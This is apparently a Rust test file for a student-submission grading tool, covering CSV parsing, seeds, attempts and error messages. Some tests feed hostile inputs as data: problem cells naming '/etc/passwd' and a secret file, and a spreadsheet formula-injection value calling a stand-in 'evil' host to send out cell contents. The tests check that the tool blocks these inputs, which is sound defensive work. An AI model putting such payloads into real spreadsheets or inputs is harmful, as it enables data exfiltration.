//! Tables of submissions that can be trusted: no row is lost, no cell does anything, and a mark is given for the student's own sheet.

use std::fs;

use crate::room::{Ran, Room, lines};

mod random;

const HEAD: &str = "student,problem,seed,form,v_A2,v_B2,T_lost";
/// Right answers to seed 1: -0.5 m/s, 4 m/s, 33.75 J.
const RIGHT: &str = "-0.500 m/s,4.00 m/s,33.8 J";

/// Marks a table under the usual headings.
fn grade(room: &Room, rows: &[String], more: &[&str]) -> Ran {
    fs::write(room.path("class.csv"), format!("{HEAD}\n{}\n", rows.join("\n"))).unwrap();
    room.run(&[&["grade", "class.csv", "-o", "marks.csv"], more].concat())
}

fn row(student: &str, seed: &str, form: &str) -> String {
    format!("{student},impact/two-carts,{seed},{form},{RIGHT}")
}

/// The marks, each as `line part marks verdict counts`.
fn marks(room: &Room) -> Vec<String> {
    let mut table = csv::Reader::from_path(room.path("marks.csv")).unwrap();
    let rows = table.records().map(Result::unwrap);
    rows.map(|row| [0, 6, 7, 9, 12].map(|column| row[column].to_owned()).join(" ")).collect()
}

#[test]
fn a_cell_names_a_problem_and_never_a_file() {
    let problem = "id: impact/two-carts\ntitle: Mine\nsecret words\n";
    let room = Room::with(&[
        ("secret.txt", "secret words that nobody guesses\n"),
        ("mine.txt", problem),
        ("mine.yaml", problem),
    ]);
    let rows = ["secret.txt", "mine.txt", "./mine.yaml", "/dev/zero", "/etc/passwd"];
    let table: Vec<String> = rows.iter().map(|cell| format!("m,{cell},1,x")).collect();
    fs::write(room.path("class.csv"), format!("student,problem,seed,a\n{}\n", table.join("\n"))).unwrap();
    let ran = room.run(&["grade", "class.csv", "--secret", "secret.txt", "--junit", "junit.xml", "-o", "marks.csv"]);
    assert_eq!(ran.code, 2, "{}", ran.err);
    assert!(ran.err.contains("5 rows read: 0 marked (0 answers), 5 refused"), "{}", ran.err);
    for (line, cell) in (2..).zip(rows) {
        assert!(ran.err.contains(&format!("class.csv:{line}: there is no problem `{cell}`")), "{}", ran.err);
    }
    let all = [ran.err, ran.out, room.read("junit.xml"), room.read("marks.csv")].concat();
    assert!(!all.contains("secret words") && !all.contains("root:"), "{all}");
}

#[test]
fn the_teacher_names_files_of_problems_and_they_come_first() {
    let bank = include_str!("../../problem_bank/impact/two-carts.yaml");
    let room = Room::with(&[("own/carts.yaml", &bank.replacen("id: impact/", "id: own/", 1))]);
    fs::write(room.path("class.csv"), "problem,seed,v_A2\nown/two-carts,1,-0.500 m/s\n").unwrap();
    assert_eq!(room.run(&["grade", "class.csv"]).code, 2, "nobody named it");
    let ran = room.run(&["grade", "class.csv", "--problem", "own/"]);
    assert!(ran.out.contains("\n2,,own/two-carts,1,,,v_A2,"), "{}{}", ran.out, ran.err);
    let twice = room.run(&["grade", "class.csv", "--problem", "own/carts.yaml", "--problem", "own/none.yaml"]);
    assert!(twice.code == 2 && twice.err.contains("none.yaml"), "{}", twice.err);
}

#[test]
fn a_sheet_that_the_student_was_not_given_has_no_marks() {
    let room = Room::with(&[("roster.csv", "id\ns1\ns2\n"), ("secret.txt", "course 2026\n")]);
    let generate =
        ["generate", "impact/two-carts", "--roster", "roster.csv", "--secret", "secret.txt", "--format", "json"];
    room.fine(&[&generate[..], &["-o", "all.jsonl"]].concat());
    let records = lines(&room.read("all.jsonl"));
    let rows: Vec<String> = records
        .iter()
        .map(|record| {
            let answers: Vec<&str> =
                record["ask"].as_array().unwrap().iter().map(|part| part["printed"].as_str().unwrap()).collect();
            format!(
                "{},impact/two-carts,{},,{}",
                record["student"]["id"].as_str().unwrap(),
                record["seed"],
                answers.join(",")
            )
        })
        .collect();
    let others = rows[0].replacen("s1,", "s2,", 1);
    let table = [
        rows[0].clone(),
        rows[1].clone(),
        others,
        row("s1", "1", "forward"),
        rows[0].replacen("s1,", "mallory,", 1),
        rows[0].replacen("s1,", ",", 1),
    ];
    for more in [&["--sheets", "all-teacher/seeds.csv"][..], &["--roster", "roster.csv"]] {
        let ran = grade(&room, &table, &[more, &["--secret", "secret.txt", "--summary", "class"]].concat());
        assert_eq!(ran.code, 1, "{}", ran.err);
        let counted: Vec<String> = marks(&room).into_iter().filter(|mark| mark.contains("v_A2")).collect();
        let expected = [
            "2 v_A2 2 right yes",
            "3 v_A2 2 right yes",
            "4 v_A2 0 not_issued no",
            "5 v_A2 0 not_issued no",
            "6 v_A2 0 not_issued no",
            "7 v_A2 0 not_issued no",
        ];
        assert_eq!(counted, expected, "{}", ran.err);
        for line in 4..=7 {
            assert!(ran.err.contains(&format!("not issued: class.csv:{line}: ")), "{}", ran.err);
        }
        assert!(
            ran.err.contains("6 rows read: 6 marked (18 answers), 0 refused; 4 of the marked rows belong to sheets"),
            "{}",
            ran.err
        );
        assert!(!ran.err.contains("on trust"), "{}", ran.err);
        let summary: serde_json::Value = serde_json::from_str(&room.read("class.json")).unwrap();
        assert_eq!((&summary["rows"]["not_issued"], &summary["rows"]["read"]), (&4.into(), &6.into()));
    }
    let trusting = grade(&room, &table, &[]);
    assert_eq!(trusting.err.matches("seeds are taken on trust").count(), 1, "{}", trusting.err);
}

#[test]
fn sheets_of_an_earlier_version_stay_valid() {
    let room = Room::with(&[("roster.csv", "id\ns17\n")]);
    room.fine(&[
        "generate",
        "impact/two-carts",
        "--roster",
        "roster.csv",
        "--derivation",
        "1",
        "--format",
        "json",
        "-o",
        "old.jsonl",
    ]);
    // By Python, as in the test of the derivation.
    let old = row("s17", "3788136342373", "");
    assert!(
        room.read("old-teacher/seeds.csv").contains(",forward,s3788136342373,2,m_A = "),
        "{}",
        room.read("old-teacher/seeds.csv")
    );
    let issued = |more: &[&str]| grade(&room, std::slice::from_ref(&old), more).err;
    assert!(!issued(&["--sheets", "old-teacher/seeds.csv"]).contains("not issued"));
    assert!(!issued(&["--roster", "roster.csv", "--derivation", "1"]).contains("not issued"));
    let now = issued(&["--roster", "roster.csv"]);
    assert!(now.contains("not issued: class.csv:2: ") && now.contains("help: give --derivation 1"), "{now}");
}

/// Scheme 2 rejects the numbers that scheme 1 drew for this seed: rounding shifts the small velocity of cart B too far.
#[test]
fn sheets_keep_the_numbers_of_the_scheme_that_drew_them() {
    let room = Room::with(&[
        ("before.csv", "student,problem,form,seed\ns1,impact/two-carts,forward,2\n"),
        ("after.csv", "student,problem,form,seed,scheme\ns1,impact/two-carts,forward,2,2\n"),
        ("unknown.csv", "student,problem,form,seed,scheme\ns1,impact/two-carts,forward,2,3\n"),
    ]);
    let record = |scheme: &str| {
        let made = ["generate", "impact/two-carts", "--seed", "2", "--scheme", scheme, "--format", "json"];
        lines(&room.fine(&made)).remove(0)
    };
    let [before, after] = ["1", "2"].map(record);
    assert_eq!((&before["scheme"], &after["scheme"]), (&1.into(), &2.into()));
    let row = |record: &serde_json::Value| {
        let parts = record["ask"].as_array().unwrap().iter().map(|part| part["printed"].as_str().unwrap());
        format!("s1,impact/two-carts,2,forward,{}", parts.collect::<Vec<_>>().join(","))
    };
    let is_right = |record: &serde_json::Value, more: &[&str]| {
        let ran = grade(&room, &[row(record)], more);
        assert!(ran.code < 2, "{}", ran.err);
        marks(&room).iter().filter(|mark| mark.contains(" right ")).count() == 3
    };
    for (old, new) in [(&["--sheets", "before.csv"][..], &["--sheets", "after.csv"][..]), (&["--scheme", "1"], &[])] {
        assert!(is_right(&before, old) && is_right(&after, new));
        assert!(!is_right(&before, new) && !is_right(&after, old));
    }
    let unknown = grade(&room, &[row(&after)], &["--sheets", "unknown.csv"]);
    assert!(unknown.code == 2 && unknown.err.contains("line 2: `3` is no scheme"), "{}", unknown.err);
}

#[test]
fn one_attempt_is_one_attempt_however_it_is_written() {
    let room = Room::empty();
    let rows = [row("s", "1", "forward"), row("s", "01", "forward"), row(" s", "1", ""), row("s", "001", "")];
    grade(&room, &rows, &[]);
    let counting: Vec<String> = marks(&room).into_iter().filter(|mark| mark.ends_with("yes")).collect();
    assert_eq!(counting, ["2 v_A2 2 right yes", "2 v_B2 2 right yes", "2 T_lost 1 right yes"]);
    // A row that cannot be used does not part them; another student's does.
    let ran =
        grade(&room, &[rows[0].clone(), row("s", "x", ""), rows[1].clone(), row("t", "1", ""), rows[3].clone()], &[]);
    assert_eq!(marks(&room).iter().filter(|mark| mark.ends_with("yes")).count(), 6, "{}", ran.err);
    assert!(
        ran.err
            .contains("class.csv:6: this attempt of `s` at impact/two-carts is separated from the one before it, at 2"),
        "{}",
        ran.err
    );
    assert!(ran.code == 2 && ran.err.contains("5 rows read: 3 marked (9 answers), 2 refused"), "{}", ran.err);
}

#[test]
fn attempts_that_stand_apart_can_be_brought_together() {
    let room = Room::empty();
    let head = format!("{HEAD},attempt\n");
    let attempt = |student: &str, seed: &str, number: u32| format!("{},{number}\n", row(student, seed, "forward"));
    let apart =
        [attempt("s", "1", 2), "\n".to_owned(), attempt("t", "1", 1), attempt("s", "x", 1), attempt("s", "01", 1)];
    let together = [attempt("s", "1", 2), attempt("s", "01", 1), attempt("t", "1", 1), attempt("s", "x", 1)];
    fs::write(room.path("apart.csv"), format!("{head}{}", apart.concat())).unwrap();
    fs::write(room.path("together.csv"), format!("{head}{}", together.concat())).unwrap();
    let marked = |file: &str, more: &[&str]| {
        let ran = room.run(&[&["grade", file, "-o", "marks.csv"], more].concat());
        assert!(ran.code == 2 && ran.err.contains("4 rows read: 3 marked (9 answers), 1 refused"), "{}", ran.err);
        let marks = marks(&room);
        (marks.iter().map(|mark| mark.split_once(' ').unwrap().1.to_owned()).collect::<Vec<_>>(), ran.err)
    };
    let (joined, told) = marked("apart.csv", &["--any-order"]);
    assert_eq!(joined, marked("together.csv", &[]).0);
    assert!(told.contains("apart.csv:5: `x` is not a seed"), "{told}");
    assert_eq!(marks(&room).len(), 9);
}

#[test]
fn a_number_of_an_attempt_stands_there_once() {
    let room = Room::empty();
    let attempt = |student: &str, number: &str| format!("{},{number}\n", row(student, "1", "forward"));
    let rows = [attempt("s", "1"), attempt("s", "2"), attempt("s", "01"), attempt("s", "1"), attempt("t", "1")];
    fs::write(room.path("class.csv"), format!("{HEAD},attempt\n{}", rows.concat())).unwrap();
    for more in [&[][..], &["--any-order"]] {
        let ran = room.run(&[&["grade", "class.csv", "-o", "marks.csv"], more].concat());
        for line in [4, 5] {
            let message =
                format!("class.csv:{line}: `s` already has an attempt 1 at this sheet of impact/two-carts, at 2");
            assert!(ran.err.contains(&message), "{}", ran.err);
        }
        assert!(ran.code == 2 && ran.err.contains("5 rows read: 3 marked (9 answers), 2 refused"), "{}", ran.err);
    }
}

#[test]
fn an_open_quotation_mark_costs_one_row() {
    let room = Room::empty();
    let mut rows = vec!["ann,impact/two-carts,1,forward,-0.500 m/s,4.00 m/s,\"33.8 J".to_owned()];
    rows.extend((0..1000).map(|number| row(&format!("s{number}"), "1", "forward")));
    let ran = grade(&room, &rows, &[]);
    assert_eq!((ran.code, marks(&room).len()), (2, 3000), "{}", ran.err);
    assert!(ran.err.contains("class.csv:2: a quotation mark is opened in cell 7 but not closed"), "{}", ran.err);
    assert!(ran.err.contains("1001 rows read: 1000 marked (3000 answers), 1 refused"), "{}", ran.err);
    fs::write(room.path("roster.csv"), "id,name\ns1,\"Ann\ns2,Bob\ns3,Cid\n").unwrap();
    let ran =
        room.run(&["generate", "impact/two-carts", "--roster", "roster.csv", "--format", "html", "-o", "sheets/"]);
    assert!(ran.code == 2 && ran.err.contains("roster.csv:2: a quotation mark is opened in cell 2"), "{}", ran.err);
    assert!(!room.path("sheets").exists(), "no student is forgotten in silence");
}

#[test]
fn lines_count_the_same_with_any_ends() {
    let room = Room::empty();
    for end in ["\n", "\r\n", "\r"] {
        fs::write(
            room.path("class.csv"),
            ["problem,seed,v_A2", "impact/two-carts,1,1 m/s", "impact/two-carts,x,1", ""].join(end),
        )
        .unwrap();
        let ran = room.run(&["grade", "class.csv"]);
        assert!(
            ran.err.contains("class.csv:3: `x` is not a seed") && ran.err.contains("2 rows read"),
            "{end:?}: {}",
            ran.err
        );
    }
}

#[test]
fn digits_are_kept_as_they_were_typed() {
    let bank = include_str!("../../problem_bank/impact/two-carts.yaml");
    let strict =
        bank.replacen("\nhints:", "\nrubric:\n  writing: require\nhints:", 1).replacen("id: impact/", "id: own/", 1);
    let room = Room::with(&[("strict.yaml", &strict)]);
    let record = &lines(&room.fine(&["generate", "strict.yaml", "--form", "find-e", "--format", "json"]))[0];
    let e = record["ask"][0]["printed"].as_str().unwrap();
    assert!(e.ends_with('0'), "the last digit of {e} is one that a number would lose");
    let key = r#""problem":"own/two-carts","seed":1,"form":"find-e""#;
    fs::write(room.path("a.jsonl"), format!("{{{key},\"answers\":{{\"e\":{e}}}}}\n")).unwrap();
    fs::write(room.path("a.csv"), format!("problem,seed,form,e\nown/two-carts,1,find-e,{e}\n")).unwrap();
    fs::create_dir(room.path("a")).unwrap();
    fs::write(
        room.path("a/one.yaml"),
        format!("problem: own/two-carts\nseed: 1\nform: find-e\nanswers: {{ e: {e} }}\n"),
    )
    .unwrap();
    for source in ["a.csv", "a.jsonl", "a"] {
        let ran = room.run(&["grade", source, "--problem", "strict.yaml"]);
        assert!(ran.code == 0 && ran.out.contains(",right,"), "{source}: {}{}", ran.out, ran.err);
    }
}

#[test]
fn a_spreadsheet_runs_no_cell_and_the_table_reads_back() {
    let room = Room::with(&[("roster.csv", "id,name\n=1+1,@Ada\ns2,Bob\n")]);
    let student = "=HYPERLINK(\"\"http://evil/?\"\"&A1)";
    let rows = [row(&format!("\"{student}\""), "1", "forward"), row("+x", "1", "forward")];
    grade(&room, &rows, &[]);
    let text = room.read("marks.csv");
    for line in text.lines().skip(1) {
        let cell = line.split(',').nth(1).unwrap();
        assert!(cell.starts_with("'+x") || cell.starts_with("\"'=HYPER"), "{line}");
    }
    assert!(text.contains("'-0.500 metres per second"), "{text}");
    let again = room.run(&["grade", "class.csv", "-o", "again.csv", "--changes", "marks.csv"]);
    assert_eq!(again.out, "0 of 6 marks changed\n", "{}", again.err);
    room.fine(&["generate", "impact/two-carts", "--roster", "roster.csv", "--format", "json", "-o", "sheets.jsonl"]);
    let seeds = room.read("sheets-teacher/seeds.csv");
    assert!(seeds.contains("\n'=1+1,'@Ada,impact/two-carts,"), "{seeds}");
    let seed = seeds.lines().nth(1).unwrap().split(',').nth(5).unwrap();
    let ran = grade(&room, &[row("=1+1", seed, ""), row("'=1+1", seed, "")], &["--sheets", "sheets-teacher/seeds.csv"]);
    assert!(!ran.err.contains("not issued"), "{}", ran.err);
}

#[test]
fn what_stands_there_twice_is_refused() {
    let room = Room::with(&[
        ("part.csv", "problem,seed,form,v_A2,v_A2\nimpact/two-carts,1,forward,9 m/s,-0.500 m/s\n"),
        ("key.csv", "problem,seed,Seed\nimpact/two-carts,1,2\n"),
        (
            "part.jsonl",
            "{\"problem\":\"impact/two-carts\",\"seed\":1,\"answers\":{\"v_A2\":\"9\",\"v_A2\":\"-0.5\"}}\n",
        ),
        ("part/a.yaml", "problem: impact/two-carts\nseed: 1\nanswers:\n  v_A2: 9 m/s\n  v_A2: -0.5 m/s\n"),
        ("roster.csv", "id,ID\na,b\n"),
    ]);
    for (source, said) in [
        ("part.csv", "the heading `v_A2`"),
        ("key.csv", "the heading `seed`"),
        ("part.jsonl", "`v_A2` is answered twice"),
        ("part", "line 5: `v_A2` is repeated"),
    ] {
        let ran = room.run(&["grade", source]);
        assert!(
            ran.code == 2 && ran.err.contains(said) && !ran.out.contains("impact"),
            "{source}: {}{}",
            ran.out,
            ran.err
        );
    }
    let ran = room.run(&["generate", "impact/two-carts", "--roster", "roster.csv", "-o", "sheets/"]);
    assert!(ran.code == 2 && ran.err.contains("two columns have the heading `id`"), "{}", ran.err);
}

#[test]
fn a_table_of_many_columns_is_read_at_once() {
    let heads: Vec<String> = (0..100_000).map(|column| format!("c{column}")).collect();
    let room = Room::with(&[("wide.csv", &format!("problem,{}\n", heads.join(",")))]);
    let start = std::time::Instant::now();
    let ran = room.run(&["grade", "wide.csv"]);
    assert!(ran.code == 2 && ran.err.contains("there is no column `seed`"), "{}", ran.err);
    // To compare each heading with each other takes minutes.
    assert!(start.elapsed().as_secs() < 20, "{:?}", start.elapsed());
}

#[test]
fn an_empty_table_says_so() {
    let room = Room::with(&[("a.csv", "problem,seed\n\n"), ("b.csv", ""), ("c.jsonl", "\n")]);
    for (source, said) in [
        ("a.csv", "it contains no submission"),
        ("b.csv", "without even headings"),
        ("c.jsonl", "it contains no submission"),
    ] {
        let ran = room.run(&["grade", source, "-o", "marks.csv"]);
        assert!(ran.code == 2 && ran.err.contains(said), "{source}: {}", ran.err);
        assert!(!room.names(".").contains(&"marks.csv".to_owned()));
    }
}

#[test]
fn a_table_that_another_option_would_read_is_told_which() {
    let room = Room::empty();
    let rows =
        |answers: &str| (0..3).map(|number| format!("s{number};impact/two-carts;1;;{answers}")).collect::<Vec<_>>();
    let grade = |rows: &[String], more: &[&str]| {
        let head = HEAD.replace(',', ";");
        fs::write(room.path("class.csv"), format!("{head}\n{}\n", rows.join("\n"))).unwrap();
        room.run(&[&["grade", "class.csv", "-o", "marks.csv"], more].concat())
    };
    let german = rows(&RIGHT.replace(',', ";").replace('.', ","));
    let ran = grade(&german, &[]);
    // A comma behind a zero alone groups nothing, and is read.
    let told = "6 of 9 answers could not be read, 6 of them because of their decimal marks\nhelp: `--decimal comma`";
    assert!(ran.err.contains(told), "{}", ran.err);
    let read = grade(&german, &["--decimal", "comma"]);
    assert!(read.code == 0 && !read.err.contains("could not be read"), "{}", read.err);
    let words = grade(&rows("fast;slow;-1,5 m/s"), &[]);
    assert!(words.err.contains("9 of 9 answers could not be read\nhelp: the reasons stand beside"), "{}", words.err);
    let one = [rows(&RIGHT.replace(',', ";")), rows("x;y;z")[..1].to_vec()].concat();
    assert!(!grade(&one, &[]).err.contains("could not be read"));
}
